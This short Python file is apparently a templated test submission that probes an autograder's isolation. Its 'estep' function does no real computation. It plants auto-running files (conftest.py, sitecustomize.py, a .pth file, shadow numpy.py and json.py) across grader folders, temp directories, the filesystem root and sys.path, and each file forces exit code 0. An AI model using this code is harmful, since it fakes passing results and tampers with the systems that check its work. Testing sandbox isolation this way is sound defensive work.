"""Leaves files behind that Python or pytest would run by themselves, wherever it may write."""

import os
import sys

import numpy as np

NAMES = (
    "conftest.py",
    "pytest.ini",
    "sitecustomize.py",
    "usercustomize.py",
    "hostile.pth",
    "numpy.py",
    "json.py",
    "test_estep.py",
    "@left@",
)
FOLDERS = ["@course@", "@course@/tests/hidden", "@submissions@", "@results@", "@temporary@"]
FOLDERS += ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/", "/course", "/grader", "/grader/autograder"]
FOLDERS += [".", "..", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), *sys.path]
HERE = os.path.realpath(".")


def estep(X, weights, means, covariances):
    for folder in FOLDERS:
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("print('@left@')\nraise SystemExit(0)\n")
                where = os.path.realpath(folder)
                print("wrote here" if where == HERE else f"wrote outside, in {where}")
            except OSError:
                pass
    return np.zeros((len(X), len(weights)))
